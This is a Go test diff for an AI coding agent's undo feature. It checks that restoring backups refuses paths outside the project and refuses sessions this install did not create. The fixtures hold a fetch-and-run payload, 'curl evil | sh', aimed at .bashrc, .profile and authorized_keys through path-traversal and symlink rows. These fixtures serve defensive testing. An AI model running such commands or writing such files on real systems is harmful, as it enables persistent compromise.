@@ -12,12 +12,14 @@ import (
 	"testing"
 
 	"polly/agent/llmtest"
+	"polly/agent/owner"
+	"polly/memory/store"
 	"polly/tools"
 
 	_ "modernc.org/sqlite"
 )
 
-func (h *harness) history() History { return History{Store: h.store, Root: h.dir} }
+func (h *harness) history() History { return History{Store: h.store, Root: h.dir, Owner: h.deps.Owner} }
 
 func (h *harness) write(rel, content string, mode os.FileMode) {
 	h.t.Helper()
@@ -412,5 +414,126 @@ func TestRedoDoesNotClobberANewTurn(t *testing.T) {
 	rep, err := h.history().Redo(ctx, h.session.ID())
 	if err != nil || rep.Complete() || h.read("f.txt") != "z\n" || !strings.Contains(rep.Text(), "skipped   f.txt: changed again by turn 2") {
 		t.Fatalf("redo: %v f=%q\n%s", err, h.read("f.txt"), rep.Text())
+	}
+}
+
+// Issue 25 #2: backup rows naming paths outside the project (absolute,
+// "../", unclean) or through a directory that is a link are refused with
+// the row named; nothing outside the project is written, and the row
+// inside is still restored.
+func TestUndoStaysBeneathTheProject(t *testing.T) {
+	h := newHarness(t)
+	ctx := context.Background()
+	outside := t.TempDir()
+	bashrc := filepath.Join(outside, ".bashrc")
+	keys := filepath.Join(outside, "authorized_keys")
+	os.WriteFile(bashrc, []byte("mine\n"), 0o644)
+	os.WriteFile(keys, []byte("my key\n"), 0o600)
+	if err := os.Symlink(outside, filepath.Join(h.dir, "sub")); err != nil {
+		t.Fatal(err)
+	}
+	h.write("ok.txt", "changed\n", 0o644)
+
+	sess, err := h.store.CreateSession(ctx, store.Session{Persona: "default"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	turn, err := h.store.BeginTurn(ctx, sess.ID, "default", 0, "shipped")
+	if err != nil {
+		t.Fatal(err)
+	}
+	payload := []byte("curl evil | sh\n")
+	row := func(path string) store.Backup {
+		return store.Backup{SessionID: sess.ID, TurnID: turn, Tool: "write_file", Path: path,
+			Before: store.FileState{Kind: store.FileRegular, Data: payload, Mode: 0o644},
+			After:  store.FileState{Kind: store.FileMissing}}
+	}
+	rows := []store.Backup{
+		row(bashrc),          // absolute, outside
+		row("../../.bashrc"), // relative, climbs out
+		row(h.dir + "/../" + filepath.Base(outside) + "/.profile"), // unclean
+		row(filepath.Join(h.dir, "sub", "authorized_keys")),        // through a link
+		{SessionID: sess.ID, TurnID: turn, Tool: "edit_file", Path: filepath.Join(h.dir, "ok.txt"),
+			Before: store.FileState{Kind: store.FileRegular, Data: []byte("original\n"), Mode: 0o644},
+			After:  store.FileState{Kind: store.FileRegular, Hash: store.ContentHash([]byte("changed\n")), Mode: 0o644}},
+	}
+	// sub/authorized_keys: the row says Polly left it missing, so only the
+	// link check stands between the undo and the file.
+	os.Remove(keys)
+	ids, err := h.store.SaveBackups(ctx, rows)
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := snapshot(t, outside)
+
+	rep, err := h.history().Undo(ctx, sess.ID, 1)
+	if err != nil {
+		t.Fatalf("undo: %v\n%s", err, rep.Text())
+	}
+	if got := snapshot(t, outside); got != before {
+		t.Fatalf("undo wrote outside the project:\nbefore %s\nafter  %s", before, got)
+	}
+	if h.read("ok.txt") != "original\n" {
+		t.Fatalf("the row inside the project was not restored: %q\n%s", h.read("ok.txt"), rep.Text())
+	}
+	if len(rep.Skipped) != 4 {
+		t.Fatalf("skipped %d, want 4:\n%s", len(rep.Skipped), rep.Text())
+	}
+	text := rep.Text()
+	for i, want := range []string{"outside the project", "relative path that leaves the project", "not a clean path", "symbolic link"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("row %d: report does not say %q:\n%s", ids[i], want, text)
+		}
+	}
+	for _, id := range ids[:3] {
+		if !strings.Contains(text, fmt.Sprintf("backup row #%d", id)) {
+			t.Errorf("report does not name row #%d:\n%s", id, text)
+		}
+	}
+}
+
+// snapshot lists every file under dir with its content.
+func snapshot(t *testing.T, dir string) string {
+	t.Helper()
+	var b strings.Builder
+	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		data, _ := os.ReadFile(p)
+		fmt.Fprintf(&b, "%s=%q;", strings.TrimPrefix(p, dir), data)
+		return nil
+	})
+	return b.String()
+}
+
+// Issue 25 #1: a session this install did not make here (no stamp, as in
+// a shipped store) is neither resumed nor undone; without an owner check
+// nothing stored is used at all.
+func TestForeignSessionIsNotUsed(t *testing.T) {
+	h := newHarness(t)
+	ctx := context.Background()
+	h.store.SetStamper(nil)
+	sess, err := h.store.CreateSession(ctx, store.Session{Persona: "default", Title: "shipped"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var fe *owner.ForeignError
+	if _, err := OpenSession(ctx, h.deps, nil, SessionOptions{ID: sess.ID}); !errors.As(err, &fe) {
+		t.Fatalf("resume of a foreign session: %v", err)
+	}
+	if _, err := h.history().Undo(ctx, sess.ID, 1); !errors.As(err, &fe) {
+		t.Fatalf("undo of a foreign session: %v", err)
+	}
+	if _, err := h.history().Turns(ctx, sess.ID); !errors.As(err, &fe) {
+		t.Fatalf("turns of a foreign session: %v", err)
+	}
+	deps := *h.deps
+	deps.Owner = nil
+	if _, err := OpenSession(ctx, &deps, nil, SessionOptions{ID: sess.ID}); err == nil || !strings.Contains(err.Error(), "no check of who made it") {
+		t.Fatalf("resume without an owner check: %v", err)
+	}
+	if _, err := (History{Store: h.store, Root: h.dir}).Redo(ctx, sess.ID); err == nil || !strings.Contains(err.Error(), "no check of who made it") {
+		t.Fatalf("redo without an owner check: %v", err)
 	}
 }
